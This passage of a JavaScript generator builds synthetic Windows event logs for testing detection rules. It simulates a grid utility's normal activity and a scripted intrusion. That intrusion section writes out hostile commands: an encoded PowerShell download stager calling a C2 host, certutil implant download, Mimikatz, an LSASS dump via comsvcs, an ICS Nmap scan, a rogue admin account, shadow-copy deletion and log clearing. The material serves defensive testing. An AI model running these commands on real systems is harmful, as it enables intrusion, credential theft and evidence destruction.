    ['login.microsoftonline.com', 'type:  5 login.mso.msidentity.com;::ffff:192.0.2.201;'],
    ['outlook.office365.com', 'type:  5 outlook.ms-acdc.office.com;::ffff:192.0.2.88;'],
    ['intranet.grid.example', '10.10.3.40;'],
  ];
  for (let i = 0; i < count; i++) {
    const [name, answer] = pick(names);
    const process = key === 'eng' || key === 'ops' ? pick([p.svchostNet, p.explorer, p.defender]) : pick([p.svchostNet, p.defender]);
    dnsQuery(process, between('07:30:00', '11:55:00'), name, answer);
  }
}

function backgroundConnections(key, count) {
  const p = PROCS[key];
  const targets = [
    [p.svchostNet, '10.10.1.10', 389, 'dc01.grid.example'],
    [p.svchostNet, '10.10.1.10', 88, 'dc01.grid.example'],
    [p.svchostNet, '10.10.2.15', 445, 'fs01.grid.example'],
    [p.defender, '192.0.2.47', 443, '-'],
  ];
  for (let i = 0; i < count; i++) {
    const [process, ip, port, hostname] = pick(targets);
    connect(process, between('07:30:00', '11:55:00'), { ip, port, hostname });
  }
}

// Office workers' desktops: mail, documents, browser.
for (const key of ['eng', 'ops']) {
  const p = PROCS[key];
  const user = desktopUser[key];
  const outlook = start(p.explorer, IMG.outlook, `"${IMG.outlook}" `, at(key === 'eng' ? '07:53:12.410' : '07:41:05.220'), { user, cwd: `C:\\Users\\${user.name}\\` });
  p.outlook = outlook;
  const chrome = start(p.explorer, IMG.chrome, `"${IMG.chrome}" `, at(key === 'eng' ? '07:55:40.118' : '07:44:51.903'), { user });
  start(p.explorer, IMG.teams, `"${IMG.teams}" msteams:system-initiated`, at(key === 'eng' ? '07:52:58.774' : '07:40:33.512'), { user });
  const onedrive = start(p.explorer, IMG.onedrive, `"${IMG.onedrive}" /background`, at(key === 'eng' ? '07:52:59.031' : '07:40:33.689'), { user });
  setRegistry(onedrive, at(key === 'eng' ? '07:53:01.262' : '07:40:35.940'), `HKU\\${user.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive`, `"${IMG.onedrive}" /background`);
  for (let i = 0; i < 4; i++) {
    start(chrome, IMG.chrome, `"${IMG.chrome}" --type=renderer --lang=en-GB --renderer-client-id=${int(5, 90)} --launch-time-ticks=${int(1e9, 9e9)} --mojo-platform-channel-handle=${int(3000, 9000)} /prefetch:1`, between('08:00:00', '11:50:00'), { user });
  }
  for (let i = 0; i < 6; i++) {
    const [ip, hostname] = pick([['192.0.2.10', 'intranet-cdn.example'], ['192.0.2.77', '-'], ['198.51.100.140', 'www.example.org'], ['192.0.2.133', 'news.example.net']]);
    connect(chrome, between('08:00:00', '11:50:00'), { ip, port: 443, hostname });
  }
  for (let i = 0; i < 3; i++) connect(outlook, between('07:55:00', '11:50:00'), { ip: '192.0.2.88', port: 443, hostname: 'outlook.ms-acdc.office.com' });
  // A spreadsheet from the file share, reading the historian; a Word document from the share.
  const excel = start(p.explorer, IMG.excel, `"${IMG.excel}" "\\\\fs01.grid.example\\engineering\\Load\\Feeder-Loads-2026-11.xlsx"`, at(key === 'eng' ? '08:12:44.602' : '08:31:09.117'), { user });
  connect(excel, at(key === 'eng' ? '08:12:47.020' : '08:31:11.460'), { ip: '10.10.2.15', port: 445, hostname: 'fs01.grid.example' });
  connect(excel, at(key === 'eng' ? '08:13:02.331' : '08:31:30.006'), { ip: '10.30.2.15', port: 1433, hostname: 'HIST-SRV-02.grid.example' });
  const word = start(p.explorer, IMG.winword, `"${IMG.winword}" /n "\\\\fs01.grid.example\\engineering\\Procedures\\Switching-Order-Template.docx"`, at(key === 'eng' ? '08:40:19.845' : '09:02:37.552'), { user });
  connect(word, at(key === 'eng' ? '08:40:21.170' : '09:02:39.003'), { ip: '10.10.2.15', port: 445, hostname: 'fs01.grid.example' });
  connect(word, at(key === 'eng' ? '08:40:23.904' : '09:02:41.318'), { ip: '52.109.76.144', port: 443, hostname: 'nexusrules.officeapps.live.com' });
  start(word, `${W}splwow64.exe`, `${W}splwow64.exe 8192`, at(key === 'eng' ? '08:47:55.210' : '09:10:12.877'), { user });
  start(p.explorer, IMG.notepad, `"${W}notepad.exe" C:\\Users\\${user.name}\\Desktop\\notes.txt`, between('08:00:00', '11:30:00'), { user });
  // Run keys the desktop apps set for themselves.
  setRegistry(p.svchostNet, between('07:35:00', '07:40:00'), `HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\SecurityHealth`, '%windir%\\system32\\SecurityHealthSystray.exe');
  // Intune runs an encoded inventory script: encoded, but not hidden and not from Office.
  const intune = start(p.services, IMG.intune, `"${IMG.intune}" -powershell "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\inventory.ps1"`, at(key === 'eng' ? '10:30:02.114' : '10:30:05.600'), { user: USERS.system });
  const inventory = 'Get-CimInstance Win32_OperatingSystem | Select-Object Caption, Version, LastBootUpTime | ConvertTo-Json -Compress';
  const inventoryShell = start(intune, IMG.powershell, `"${IMG.powershell}" -NoProfile -NonInteractive -ExecutionPolicy Bypass -EncodedCommand ${Buffer.from(inventory, 'utf16le').toString('base64')}`, at(key === 'eng' ? '10:30:02.530' : '10:30:06.018'), { user: USERS.system });
  scriptBlock(inventoryShell, at(key === 'eng' ? '10:30:03.402' : '10:30:06.911'), inventory);
  backgroundProcesses(key, 7);
  backgroundDns(key, 7);
  backgroundConnections(key, 5);
}

// ENG-WS-07: protection engineering tools; a benign certutil hash check.
{
  const p = PROCS.eng;
  const studio = start(p.explorer, IMG.pstudio, `"${IMG.pstudio}" "D:\\Relays\\SS-North-7\\F12-distance.psx"`, at('08:05:31.442'), { user: USERS.keller });
  connect(studio, at('08:05:36.019'), { ip: '10.30.4.12', port: 20000, hostname: '-' });
  connect(studio, at('08:21:03.772'), { ip: '10.30.4.12', port: 20000, hostname: '-' });
  start(p.explorer, IMG.python, `"${IMG.python}" D:\\Tools\\relay-export\\export_settings.py --substation SS-North-7 --out D:\\Relays\\export`, at('08:26:14.090'), { user: USERS.keller });
  const shell = start(p.explorer, IMG.cmd, `"${W}cmd.exe" `, at('08:33:40.518'), { user: USERS.keller });
  start(shell, IMG.conhost, `\\??\\${W}conhost.exe 0xffffffff -ForceV1`, at('08:33:40.533'), { user: USERS.keller });
  start(shell, IMG.certutil, `certutil  -hashfile D:\\Downloads\\pstudio-5.2.1-update.msi SHA256`, at('08:34:02.871'), { user: USERS.keller });
}

// SCADA-HMI-01: the HMI runtime polls the substation PLCs over Modbus (private addresses, no rule).
{
  const p = PROCS.hmi;
  for (let i = 0; i < 6; i++) connect(p.runtime, between('07:30:00', '11:55:00'), { ip: pick(['10.30.1.11', '10.30.1.12', '10.30.1.13']), port: 502, hostname: '-' });
  start(p.runtime, IMG.gvtrend, `"${IMG.gvtrend}" /tag "SS-North-7.F12.P" /span 8h`, at('08:15:07.300'), { user: USERS.shift });
  start(p.runtime, IMG.gvtrend, `"${IMG.gvtrend}" /tag "SS-North-3.T1.Q" /span 24h`, at('11:02:44.051'), { user: USERS.shift });
  setRegistry(p.svchostNet, at('07:31:12.880'), 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated', 'Binary Data');
  backgroundProcesses('hmi', 6);
  backgroundDns('hmi', 4);
  backgroundConnections('hmi', 4);
}

// HIST-SRV-02: the backup agent lists (not deletes) shadow copies; monitoring asks WMIC for disk space.
{
  const p = PROCS.hist;
  start(p.backup, IMG.vssadmin, `"${W}vssadmin.exe" list shadows /for=D:`, at('08:00:04.117'), { user: USERS.system });
  start(p.backup, IMG.wmic, `"${W}wbem\\WMIC.exe" /namespace:\\\\root\\cimv2 path Win32_LogicalDisk where "DeviceID='D:'" get FreeSpace,Size /format:list`, at('08:00:05.402'), { user: USERS.system });
  start(p.backup, IMG.vssadmin, `"${W}vssadmin.exe" list shadows /for=D:`, at('11:00:03.988'), { user: USERS.system });
  for (let i = 0; i < 5; i++) connect(p.collector, between('07:30:00', '11:55:00'), { ip: '10.30.1.21', port: 4840, hostname: 'SCADA-HMI-01.grid.example' });
  setRegistry(p.svchostNet, at('09:30:00.210'), 'HKLM\\System\\CurrentControlSet\\Services\\bkagent\\Start', 'DWORD (0x00000002)');
  backgroundProcesses('hist', 6);
  backgroundDns('hist', 3);
  backgroundConnections('hist', 4);
}

// Domain controller: logons, Kerberos, a few audited process starts, a mistyped password, a new hire's group.
{
  const dc = HOSTS.dc;
  const workstations = [
    [USERS.keller, HOSTS.eng],
    [USERS.otto, HOSTS.ops],
    [USERS.schmidt, HOSTS.ops],
    [USERS.backup, HOSTS.hist],
    [USERS.historian, HOSTS.hist],
  ];
  for (let i = 0; i < 9; i++) {
    const [user, from] = pick(workstations);
    const time = between('07:30:00', '11:55:00');
    kerberosTgt(time, user, from.ip);
    const id = logon(dc, between('07:30:00', '11:55:00'), user, { type: 3, from: from.ip, workstation: '-' });
    if (i % 3 === 0) logoff(dc, between('11:56:00', '11:59:00'), user, id, 3);
  }
  for (let i = 0; i < 6; i++) {
    const [user, from] = pick(workstations);
    kerberosService(between('07:30:00', '11:55:00'), user, pick(['FS01$', 'HIST-SRV-02$', 'cifs/fs01.grid.example', 'ldap/DC01.grid.example']), from.ip);
  }
  const audits = [
    [USERS.system, `${W}gpupdate.exe`, 'gpupdate.exe /target:computer', `${W}svchost.exe`],
    [USERS.system, `${W}taskhostw.exe`, 'taskhostw.exe', `${W}svchost.exe`],
    [USERS.system, `${W}wbem\\WmiPrvSE.exe`, `${W}wbem\\wmiprvse.exe -secured -Embedding`, `${W}svchost.exe`],
    [USERS.kellerAdmin, `${W}repadmin.exe`, 'repadmin  /replsummary', `${W}cmd.exe`],
    [USERS.system, IMG.powershell, `"${IMG.powershell}" -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\ad-health.ps1`, `${W}svchost.exe`],
    [USERS.system, `${W}conhost.exe`, `\\??\\${W}conhost.exe 0xffffffff -ForceV1`, IMG.powershell],
    [USERS.system, `${W}dfsrdiag.exe`, 'dfsrdiag.exe  ReplicationState', `${W}svchost.exe`],
  ];
  for (const [user, image, commandLine, parent] of audits) processAudit(dc, between('07:30:00', '11:55:00'), user, image, commandLine, parent);
  // The administrator's morning logon, with its special privileges.
  const adminLogon = logon(dc, at('07:58:02.190'), USERS.kellerAdmin, { type: 3, from: HOSTS.eng.ip });
  specialPrivileges(dc, at('07:58:02.191'), USERS.kellerAdmin, adminLogon);
  // o.schmidt mistypes the password: the account exists, so this is sub-status 0xC000006A.
  failedLogon(dc, at('08:09:41.305'), USERS.schmidt.name, '0xc000006a', { from: HOSTS.ops.ip, workstation: 'OPS-WS-12' });
  failedLogon(dc, at('08:09:47.662'), USERS.schmidt.name, '0xc000006a', { from: HOSTS.ops.ip, workstation: 'OPS-WS-12' });
  // The identity system puts a new hire into a non-privileged domain-local group.
  security(dc, 4732, at('09:05:12.744'), {
    MemberName: 'CN=Lena Brandt,OU=Operations,DC=grid,DC=example',
    MemberSid: `${DOMAIN_SID}-1219`,
    TargetUserName: 'Historian-Readers',
    TargetDomainName: 'GRID',
    TargetSid: `${DOMAIN_SID}-1203`,
    ...subject({ name: 'svc_idm_sync', domain: 'GRID', sid: `${DOMAIN_SID}-1188`, logonId: '0x8812ac' }),
    PrivilegeList: '-',
  });
  // AD health script block on the DC.
  const health = running(dc, IMG.powershell, 'powershell.exe', USERS.system, 5120);
  scriptBlock(health, at('07:45:10.402'), "Import-Module ActiveDirectory\n$dcs = Get-ADDomainController -Filter *\nforeach ($dc in $dcs) { Test-Connection -ComputerName $dc.HostName -Count 1 -Quiet }", { path: 'C:\\Scripts\\ad-health.ps1' });
  scriptBlock(health, at('07:45:11.088'), "Get-Service -Name NTDS, DNS, Netlogon, KDC, DFSR | Where-Object Status -ne 'Running'", { path: 'C:\\Scripts\\ad-health.ps1' });
}

// Interactive logons on the workstations and the HMI; a Windows feature account on OPS-WS-12.
{
  logon(HOSTS.eng, at('07:52:31.004'), USERS.keller, { type: 2, logonId: USERS.keller.logonId });
  logon(HOSTS.ops, at('07:39:58.447'), USERS.otto, { type: 2, logonId: USERS.otto.logonId });
  logon(HOSTS.hmi, at('06:58:40.120'), USERS.shift, { type: 2, logonId: USERS.shift.logonId });
  logon(HOSTS.hist, at('07:30:00.018'), USERS.historian, { type: 5, logonId: USERS.historian.logonId, auth: 'Negotiate' });
  // Windows creates WDAGUtilityAccount when Application Guard is enabled: filtered by the rule.
  security(HOSTS.ops, 4720, at('08:52:17.330'), accountCreated('WDAGUtilityAccount', 'OPS-WS-12', 'S-1-5-21-1618033988-749894848-204586834-504', { name: 'OPS-WS-12$', domain: 'GRID', sid: 'S-1-5-18', logonId: '0x3e7' }));
  // Ordinary PowerShell on the desktops: the console's own helper blocks and a user's queries.
  const opsShell = running(HOSTS.ops, IMG.powershell, `"${IMG.powershell}" `, USERS.otto, 8812);
  scriptBlock(opsShell, at('09:41:02.330'), '{ Set-StrictMode -Version 1; $_.PSMessageDetails }');
  scriptBlock(opsShell, at('09:41:02.331'), '{ Set-StrictMode -Version 1; $_.ErrorCategory_Message }');
  scriptBlock(opsShell, at('09:41:15.902'), "Get-ChildItem \\\\fs01.grid.example\\operations\\Reports -Filter *.pdf | Sort-Object LastWriteTime -Descending | Select-Object -First 5");
  scriptBlock(opsShell, at('09:43:30.117'), "Get-WinEvent -LogName 'Microsoft-Windows-Windows Defender/Operational' -MaxEvents 20 | Where-Object { $_.Message -like '*Mimikatz*' }");
  const engShell = running(HOSTS.eng, IMG.powershell, `"${IMG.powershell}" `, USERS.keller, 7304);
  scriptBlock(engShell, at('08:35:11.640'), "Get-FileHash D:\\Downloads\\pstudio-5.2.1-update.msi -Algorithm SHA256");
  // A certificate imported from base64: base64 in a script block is not suspicious in itself.
  const certificate = Buffer.from(Array.from({ length: 300 }, () => int(0, 255))).toString('base64');
  scriptBlock(engShell, at('08:36:40.015'), `$raw = [Convert]::FromBase64String('${certificate}')\n$cert = [System.Security.Cryptography.X509Certificates.X509Certificate2]::new($raw)\n$store = Get-Item Cert:\\CurrentUser\\TrustedPublisher\n$store.Open('ReadWrite'); $store.Add($cert); $store.Close()`);
  const hmiShell = running(HOSTS.hmi, IMG.powershell, `"${IMG.powershell}" -NoProfile -File D:\\Scripts\\export-alarms.ps1`, USERS.shift, 6120);
  scriptBlock(hmiShell, at('07:35:00.501'), "$alarms = Import-Csv D:\\GridView\\Alarms\\today.csv\n$alarms | Where-Object Priority -le 2 | Export-Csv \\\\fs01.grid.example\\operations\\Alarms\\hmi01-$(Get-Date -Format yyyyMMdd).csv -NoTypeInformation", { path: 'D:\\Scripts\\export-alarms.ps1' });
}

// ---------------------------------------------------------------------------------------------------
// The intrusion.

{
  const eng = HOSTS.eng;
  const p = PROCS.eng;
  const k = USERS.keller;

  // 09:14 Jana Keller opens the attachment "Q1 protection relay maintenance" from a spoofed vendor mail.
  const doc = 'C:\\Users\\j.keller\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QK2M4ZP\\Q1_Protection_Relay_Maintenance.docm';
  const word = start(p.outlook, IMG.winword, `"${IMG.winword}" /n "${doc}" /o ""`, at('09:14:01.207'), { user: k, meta: { story: 'Outlook opens the phishing attachment in Word (no rule: opening a document is normal)' } });
  dnsQuery(word, at('09:14:02.884'), TEMPLATE_HOST, `::ffff:${TEMPLATE_IP};`, { story: 'Word resolves the remote template host' });
  connect(word, at('09:14:03.129'), { ip: TEMPLATE_IP, port: 443, meta: { expect: ['officePublicIp'], story: 'Word fetches a remote template from a public address' } });

  // The macro starts PowerShell, hidden, with an encoded stager.
  const inner =
    `$u='https://${C2_HOST}';$wc=New-Object Net.WebClient;$wc.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64)');` +
    `$null=$wc.DownloadString("$u/c?h=$env:COMPUTERNAME");New-Item -ItemType Directory -Force -Path C:\\ProgramData\\GridSync|Out-Null;` +
    `certutil.exe -urlcache -split -f "$u/gs.dll" C:\\ProgramData\\GridSync\\gsupdate.dll|Out-Null;Start-Process rundll32.exe -ArgumentList 'C:\\ProgramData\\GridSync\\gsupdate.dll,Start'`;
  const stager = `$d='${Buffer.from(inner, 'ascii').toString('base64')}';$s=[Text.Encoding]::ASCII.GetString([Convert]::FromBase64String($d));IEX $s`;
  const stage1 = start(word, IMG.powershell, `"${IMG.powershell}" -nop -w hidden -enc ${Buffer.from(stager, 'utf16le').toString('base64')}`, at('09:14:09.552'), {
    user: k,
    meta: { expect: ['officeShell', 'encodedPowerShell'], story: 'Word starts hidden PowerShell with an encoded command' },
  });
  scriptBlock(stage1, at('09:14:10.301'), stager, { warning: true, meta: { expect: ['base64Download'], story: 'the stager: a download script kept as base64 and run with IEX' } });
  scriptBlock(stage1, at('09:14:10.355'), inner, { warning: true, meta: { story: 'the decoded download script (plain text: no rule looks for this exact script)' } });
  dnsQuery(stage1, at('09:14:10.612'), C2_HOST, `::ffff:${C2_IP};`);
  connect(stage1, at('09:14:10.840'), { ip: C2_IP, port: 443, meta: { story: 'PowerShell checks in with the attacker\'s server (not an Office process: no rule)' } });

  // certutil fetches the implant DLL; PowerShell starts it with rundll32.
  const certutil = start(stage1, IMG.certutil, `"${W}certutil.exe" -urlcache -split -f https://${C2_HOST}/gs.dll C:\\ProgramData\\GridSync\\gsupdate.dll`, at('09:14:12.093'), {
    user: k,
    meta: { expect: ['certutil'], story: 'certutil downloads the implant' },
  });
  connect(certutil, at('09:14:12.530'), { ip: C2_IP, port: 443 });
  const implant = start(stage1, IMG.rundll32, `"${W}rundll32.exe" C:\\ProgramData\\GridSync\\gsupdate.dll,Start`, at('09:14:16.771'), {
    user: k,
    meta: { story: 'rundll32 runs the implant DLL from ProgramData (no rule in the pack: a gap)' },
  });
  for (const clock of ['09:14:17.050', '09:19:17.112', '09:24:17.208', '09:34:17.390', '09:44:17.455', '09:54:17.611', '10:04:17.702']) {
    connect(implant, at(clock), { ip: C2_IP, port: 443, meta: { story: 'implant beacon' } });
  }

  // 09:21 Persistence: a Run key for the implant.
  const regShell = start(implant, IMG.cmd, `${W}cmd.exe /c reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v GridSyncUpdater /t REG_SZ /d "rundll32.exe C:\\ProgramData\\GridSync\\gsupdate.dll,Start" /f`, at('09:21:40.018'), { user: k });
  const reg = start(regShell, IMG.reg, `reg  add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v GridSyncUpdater /t REG_SZ /d "rundll32.exe C:\\ProgramData\\GridSync\\gsupdate.dll,Start" /f`, at('09:21:40.066'), { user: k });
  setRegistry(reg, at('09:21:40.091'), `HKU\\${k.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\GridSyncUpdater`, 'rundll32.exe C:\\ProgramData\\GridSync\\gsupdate.dll,Start', {
    expect: ['runKey'],
    story: 'Run key persistence for the implant',
  });

  // 09:25 Credential theft, first with Invoke-Mimikatz (blocked by AMSI), then with comsvcs.dll.
  const mimikatz = `IEX (New-Object Net.WebClient).DownloadString('https://${C2_HOST}/im.ps1'); Invoke-Mimikatz -Command '"privilege::debug" "sekurlsa::logonpasswords" "exit"'`;
  const stage2 = start(implant, IMG.powershell, `"${IMG.powershell}" /nop /w hidden /ec ${Buffer.from(mimikatz, 'utf16le').toString('base64')}`, at('09:25:03.460'), {
    user: k,
    meta: { expect: ['encodedPowerShell'], story: 'the implant starts hidden PowerShell with an encoded command (slash flags)' },
  });
  scriptBlock(stage2, at('09:25:04.118'), mimikatz, { warning: true, meta: { expect: ['credentialTools'], story: 'Invoke-Mimikatz script block' } });
  const dumpShell = start(implant, IMG.cmd, `${W}cmd.exe /c rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${eng.lsass} C:\\ProgramData\\GridSync\\wer${eng.lsass}.tmp full`, at('09:27:48.305'), { user: k, integrity: 'High' });
  start(dumpShell, IMG.rundll32, `rundll32.exe  C:\\Windows\\System32\\comsvcs.dll, MiniDump ${eng.lsass} C:\\ProgramData\\GridSync\\wer${eng.lsass}.tmp full`, at('09:27:48.351'), {
    user: k,
    integrity: 'High',
    meta: { expect: ['comsvcs'], story: 'LSASS memory dump through comsvcs.dll MiniDump' },
  });

  // 09:40 Password spraying against the domain controller with guessed account names.
  for (const [clock, name] of [['09:40:11.204', 'scada_admin'], ['09:40:12.977', 'hmiadmin'], ['09:40:14.530', 'adm.vendor']]) {
    failedLogon(HOSTS.dc, at(clock), name, '0xc0000064', { from: eng.ip, workstation: 'ENG-WS-07', meta: { expect: ['unknownUser'], story: `failed network logon for the non-existent account ${name}` } });
  }
  // With the dumped credentials of the engineer's admin account it succeeds.
  const stolenLogon = logon(HOSTS.dc, at('09:41:30.612'), USERS.kellerAdmin, { type: 3, from: eng.ip, auth: 'NTLM', workstation: 'ENG-WS-07', meta: { story: 'network logon with the stolen adm.jkeller credentials (no rule)' } });
  specialPrivileges(HOSTS.dc, at('09:41:30.613'), USERS.kellerAdmin, stolenLogon);

  // 09:48 Reconnaissance of the substation controllers with Nmap's ICS scripts.
  const nmap = start(implant, 'C:\\ProgramData\\GridSync\\nm\\nmap.exe', 'C:\\ProgramData\\GridSync\\nm\\nmap.exe -Pn -sT -p 102,502,44818 --script modbus-discover,s7-info,enip-info --open 10.30.1.0/24', at('09:48:22.019'), {
    user: k,
    cwd: 'C:\\ProgramData\\GridSync\\nm\\',
    meta: { expect: ['icsRecon'], story: 'Nmap scans the substation PLC network with Modbus, S7 and EtherNet/IP scripts' },
  });
  for (const [clock, ip, port] of [['09:48:23.500', '10.30.1.11', 502], ['09:48:23.502', '10.30.1.12', 102], ['09:48:23.517', '10.30.1.13', 44818], ['09:48:24.210', '10.30.1.11', 502]]) {
    connect(nmap, at(clock), { ip, port, meta: { story: 'Nmap probe of a PLC' } });
  }

  // 10:04 Remote desktop to the HMI with the stolen admin account.
  connect(implant, at('10:04:40.377'), { ip: HOSTS.hmi.ip, port: 3389, hostname: 'SCADA-HMI-01.grid.example', meta: { story: 'the implant tunnels RDP to the HMI' } });
}

{
  const hmi = HOSTS.hmi;
  const p = PROCS.hmi;
  const admin = { ...USERS.kellerAdmin, logonId: '0xb71f3c' };
  logon(hmi, at('10:04:42.905'), admin, { type: 10, from: HOSTS.eng.ip, workstation: 'ENG-WS-07', logonId: admin.logonId, elevated: true, meta: { story: 'RDP logon of adm.jkeller from ENG-WS-07 (no rule)' } });
  specialPrivileges(hmi, at('10:04:42.906'), admin, admin.logonId);
  const sessionExplorer = running(hmi, IMG.explorer, 'C:\\Windows\\Explorer.EXE', admin, 9216);
  start(p.svchostNet, IMG.rdpclip, 'rdpclip', at('10:04:47.120'), { user: admin });
  const shell = start(sessionExplorer, IMG.cmd, `"${W}cmd.exe" `, at('10:06:51.733'), { user: admin, integrity: 'High' });
  start(shell, IMG.conhost, `\\??\\${W}conhost.exe 0xffffffff -ForceV1`, at('10:06:51.750'), { user: admin, integrity: 'High' });

  // 10:07 A local administrator account of their own.
  const newUserSid = `${HMI_LOCAL_SID}-1009`;
  const netUser = start(shell, IMG.net, 'net  user hmi_maint Gr1dM@int2026 /add', at('10:07:15.220'), { user: admin, integrity: 'High' });
  start(netUser, IMG.net1, `${W}net1  user hmi_maint Gr1dM@int2026 /add`, at('10:07:15.241'), { user: admin, integrity: 'High' });
  security(hmi, 4720, at('10:07:15.288'), accountCreated('hmi_maint', 'SCADA-HMI-01', newUserSid, admin), { expect: ['userCreated'], story: 'local account hmi_maint created on the HMI' });
  for (const [clock, group, sid] of [['10:07:48.610', 'Administrators', 'S-1-5-32-544'], ['10:08:05.144', 'Remote Desktop Users', 'S-1-5-32-555']]) {
    const netGroup = start(shell, IMG.net, `net  localgroup "${group}" hmi_maint /add`, at(clock), { user: admin, integrity: 'High' });
    start(netGroup, IMG.net1, `${W}net1  localgroup "${group}" hmi_maint /add`, at(clock.replace(/\.(\d+)$/, (_, ms) => `.${String(Number(ms) + 21).padStart(3, '0')}`)), { user: admin, integrity: 'High' });
    security(hmi, 4732, at(clock.replace(/\.(\d+)$/, (_, ms) => `.${String(Number(ms) + 60).padStart(3, '0')}`)), {
      MemberName: '-',
      MemberSid: newUserSid,
      TargetUserName: group,
      TargetDomainName: 'Builtin',
      TargetSid: sid,
      ...subject(admin),
      PrivilegeList: '-',
    }, { expect: ['privilegedGroup'], story: `hmi_maint added to ${group}` });
  }

  // 10:11 No way back: shadow copies deleted, then the Security log cleared.
  start(shell, IMG.vssadmin, 'vssadmin.exe  delete shadows /all /quiet', at('10:11:02.447'), { user: admin, integrity: 'High', meta: { expect: ['shadowCopies'], story: 'shadow copies deleted with vssadmin' } });
  start(shell, IMG.wmic, 'wmic.exe  shadowcopy delete /nointeractive', at('10:11:30.902'), { user: admin, integrity: 'High', meta: { expect: ['shadowCopies'], story: 'shadow copies deleted with WMIC' } });
  start(shell, IMG.wevtutil, 'wevtutil.exe  cl Security', at('10:13:05.118'), { user: admin, integrity: 'High', meta: { story: 'wevtutil clears the Security log (no process rule; the 1102 event below fires)' } });
  auditLogCleared(hmi, at('10:13:05.301'), admin, { expect: ['logCleared'], story: 'Security audit log cleared on the HMI' });
}

// ---------------------------------------------------------------------------------------------------
// Write the files: time order, record numbers per host and log, one JSON object per line.

const OUTPUT = { sysmon: 'sysmon.jsonl', security: 'security.jsonl', powershell: 'powershell.jsonl' };
const PRINT_EXPECTED = process.argv.includes('--expected');
const expected = [];
const counts = {};
const contents = {};

for (const [key, items] of Object.entries(FILES)) {
  items.sort((a, b) => (a.time.sort < b.time.sort ? -1 : a.time.sort > b.time.sort ? 1 : 0));
  const next = {};
  const lines = items.map((item, index) => {
    const counter = `${item.host.name}|${item.channelKey}`;
    next[counter] = (next[counter] ?? item.host.records[item.channelKey]) + 1;
    item.event.Event.System.EventRecordID = next[counter];
    for (const rule of item.expect) {
      expected.push({
        rule: RULES[rule],
        title: ruleTitle(RULES[rule]),
        file: OUTPUT[key],
        line: index + 1,
        computer: item.host.name,
        eventId: item.event.Event.System.EventID,
        recordId: next[counter],
        time: item.event.Event.System.TimeCreated['#attributes'].SystemTime,
        what: item.story,
      });
    }
    return JSON.stringify(item.event);
  });
  counts[OUTPUT[key]] = lines.length;
  contents[OUTPUT[key]] = `${lines.join('\n')}\n`;
}

for (const [name, file] of Object.entries(RULES)) {
  if (!expected.some((detection) => detection.rule === file)) throw new Error(`rule ${name} (${file}) fires on no demo event`);
}
expected.sort((a, b) => (a.time < b.time ? -1 : a.time > b.time ? 1 : 0));
if (PRINT_EXPECTED) {
  console.log(JSON.stringify({ files: counts, detections: expected }, null, 2));
  process.exit(0);
}
// Kept out of data/demo/ as JSON on purpose: `rampart hunt data/demo` reads every .json file there.
for (const [file, text] of Object.entries(contents)) writeFileSync(path.join(DEMO, file), text);
updateReadme(expected, counts);
console.log(`demo data: ${Object.entries(counts).map(([file, count]) => `${file} ${count}`).join(', ')}; ${expected.length} expected detections`);

function ruleTitle(file) {
  const text = readFileSync(path.join(REPO, 'data', 'rules', file), 'utf8');
  const match = /^title:\s*(.+)$/m.exec(text);
  if (!match) throw new Error(`no title in ${file}`);
  return match[1].trim();
}

/** Replaces the generated table between the markers in data/demo/README.md. */
function updateReadme(detections, fileCounts) {
  const readmePath = path.join(DEMO, 'README.md');
  const readme = readFileSync(readmePath, 'utf8');
  const begin = '<!-- generated by scripts/make-demo-data.js: begin -->';
  const end = '<!-- generated by scripts/make-demo-data.js: end -->';
  const from = readme.indexOf(begin);
  const to = readme.indexOf(end);
  if (from < 0 || to < from) throw new Error(`${readmePath} lacks the generated-table markers`);
  const total = Object.values(fileCounts).reduce((sum, count) => sum + count, 0);
  const rows = detections.map((d) => `| ${d.time.slice(11, 19)} | \`${d.file}:${d.line}\` | ${d.computer.split('.')[0]} | ${d.eventId} | ${d.recordId} | [${d.title}](../rules/${d.rule}) | ${d.what} |`);
  const table = [
    begin,
    '',
    `${total} events (${Object.entries(fileCounts).map(([file, count]) => `\`${file}\` ${count}`).join(', ')}); ${detections.length} detections expected, every other event matches no rule.`,
    '',
    '| Time (UTC) | File:line | Host | EventID | EventRecordID | Rule | What happened |',
    '|---|---|---|---|---|---|---|',
    ...rows,
    '',
    end,
  ].join('\n');
  writeFileSync(readmePath, readme.slice(0, from) + table + readme.slice(to + end.length));
}
